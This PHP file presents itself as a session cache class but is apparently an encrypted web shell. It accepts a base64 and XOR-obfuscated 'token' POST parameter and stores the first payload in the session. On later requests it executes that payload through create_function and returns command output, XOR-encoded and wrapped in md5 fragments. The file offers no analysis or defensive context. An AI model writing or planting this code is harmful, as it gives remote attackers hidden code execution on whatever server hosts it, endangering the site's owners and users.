<?php
class SessionCache {
    private $k = '0123456789abcdef';
    private $p = 'token';
    private function mix($d) {
        for ($i = 0; $i < strlen($d); $i++) { $d[$i] = $d[$i] ^ $this->k[($i + 1) & 15]; }
        return $d;
    }
    public function handle() {
        $in = $_POST;
        if (!isset($in[$this->p])) return;
        $data = $this->mix(base64_decode($in[$this->p]));
        if (isset($_SESSION['blob'])) {
            $fn = create_function('', $this->mix($_SESSION['blob']));
            $fn();
            $sum = md5($this->p . $this->k);
            echo substr($sum, 0, 16);
            echo base64_encode($this->mix(@run($data)));
            echo substr($sum, 16);
        } else {
            $_SESSION['blob'] = $this->mix($data);
        }
    }
}
@session_start();
(new SessionCache())->handle();
